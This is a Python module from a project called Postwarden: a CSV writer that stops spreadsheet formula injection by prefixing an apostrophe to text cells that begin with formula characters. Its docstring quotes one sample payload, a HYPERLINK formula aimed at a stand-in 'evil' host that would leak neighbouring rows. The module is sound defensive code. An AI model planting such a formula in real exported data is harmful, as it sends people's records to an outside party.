"""The one CSV writer for every CSV Postwarden writes: no cell can start a formula.

Compliance officers open these files in spreadsheets, which run a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage
return) as a formula: a contact imported as ``=HYPERLINK("http://evil/?"&A3)@x``
would leak the rows next to it. Such a text cell gets a leading apostrophe, as
OWASP advises, so it shows as text and stays readable. Numbers are written as
they are: a negative number is not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it and never run it (None: an empty cell)."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class CsvWriter:
    """Writes rows of cells, each neutralised, one line per row (``\\n``)."""

    def __init__(self, handle: _Writable) -> None:
        self._writer = csv.writer(handle, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
